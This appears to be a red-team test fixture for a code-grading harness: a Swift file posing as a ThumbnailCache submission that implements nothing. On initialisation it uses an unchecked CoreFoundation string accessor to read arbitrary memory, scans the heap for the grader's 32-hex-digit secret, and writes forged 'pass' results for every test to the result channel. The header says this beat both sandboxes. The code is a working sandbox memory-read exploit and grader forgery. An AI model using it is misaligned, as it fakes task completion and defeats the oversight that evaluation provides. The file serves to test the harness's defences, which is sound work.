// expect: error
// why: red team round 12: with import CoreFoundation, CFStringGetCharacterAtIndex on a CFString of the file's own read any address (CF's bounds assertions are compiled out of release builds), found the secret in the runner's heap and forged 20 of 20 under both sandboxes, as root and as nobody; a graded file imports only Foundation, UIKit, Dispatch, Synchronization and Glibc
import Foundation
import CoreFoundation

// Implements nothing. CoreFoundation's CFStringGetCharacterAtIndex does not check its index
// in release builds: a CFString from CFCopyTypeIDDescription reads any byte at
// contents + index, with no pointer, no unsafe, no underscore.

private let testNames = [
    "uses_nscache", "no_second_strong_copy", "cost_limit_20mb", "cost_whole_sizes", "cost_fractional_sizes",
    "returns_stored_image", "miss_returns_nil", "keys_are_isolated", "hit_skips_generator", "hit_completes_once",
    "miss_generates_once", "miss_stores_before_completion", "miss_completes_once", "nil_result_stores_nothing",
    "survives_eviction_lru", "survives_eviction_fifo", "survives_eviction_random", "survives_eviction_foundation",
    "survives_memory_pressure", "concurrent_access",
]

private func isHex(_ b: UInt16) -> Bool { (b >= 0x30 && b <= 0x39) || (b >= 0x61 && b <= 0x66) }

private func attack() {
    let started = Date()
    guard let mapsData = try? FileHandle(forReadingAtPath: "/proc/self/maps")?.readToEnd() else { print("no maps"); return }
    let maps = String(decoding: mapsData, as: UTF8.self)
    let probe = CFCopyTypeIDDescription(CFStringGetTypeID())!
    let contents = Int(bitPattern: UInt(bitPattern: ObjectIdentifier(probe))) + 0x19
    guard CFStringGetCharacterAtIndex(probe, -1) == 8, CFStringGetCharacterAtIndex(probe, 0) == 0x43 else { print("layout?"); return }
    var regions: [(Int, Int, String)] = []
    for line in maps.split(separator: "\n") {
        let fields = line.split(separator: " ", omittingEmptySubsequences: true)
        guard fields.count >= 5, fields[1] == "rw-p" else { continue }
        let bounds = fields[0].split(separator: "-")
        guard bounds.count == 2, let lo = Int(bounds[0], radix: 16), let hi = Int(bounds[1], radix: 16) else { continue }
        let name = fields.count > 5 ? String(fields[5]) : ""
        let size = hi - lo
        if name == "[heap]" || (name.isEmpty && size <= 4 << 20) || (lo <= contents && contents < hi && size <= 64 << 20) {
            regions.append((lo, hi, name))
        }
    }
    regions.sort { ($0.2 == "[heap]" ? 0 : 1) < ($1.2 == "[heap]" ? 0 : 1) }
    var found = Set<String>()
    var scanned = 0
    func byte(_ address: Int) -> UInt16 { CFStringGetCharacterAtIndex(probe, address - contents) }
    for (lo, hi, _) in regions {
        var address = lo
        var skipTo = lo
        while address < hi {
            if address >= skipTo && isHex(byte(address)) {
                var start = address
                while start > lo && isHex(byte(start - 1)) { start -= 1 }
                var end = address + 1
                while end < hi && isHex(byte(end)) { end += 1 }
                if end - start == 32 {
                    var text: [UInt8] = []
                    for a in start..<end { text.append(UInt8(byte(a))) }
                    found.insert(String(decoding: text, as: UTF8.self))
                }
                skipTo = end
            }
            address += 16
        }
        scanned += hi - lo
        if Date().timeIntervalSince(started) > 3 { break }
    }
    var records = ""
    for secret in found {
        for name in testNames {
            records += "{\"nonce\":\"\(secret)\",\"kind\":\"result\",\"test\":\"\(name)\",\"status\":\"pass\"}\n"
        }
    }
    try? FileHandle(fileDescriptor: 3, closeOnDealloc: false).write(contentsOf: Data(records.utf8))
    print("regions \(regions.count) scanned \(scanned) candidates \(found.count) in \(Date().timeIntervalSince(started))s")
}

private let attacked: Bool = { attack(); return true }()

final class ThumbnailCache {
    private let generator: (String) -> UIImage?
    init(generator: @escaping (String) -> UIImage?) {
        self.generator = generator
        _ = attacked
    }
    func thumbnail(forKey key: String) -> UIImage? { nil }
    func storeThumbnail(_ image: UIImage, forKey key: String) {}
    func loadThumbnail(forKey key: String, completion: @escaping (UIImage?) -> Void) { completion(nil) }
}
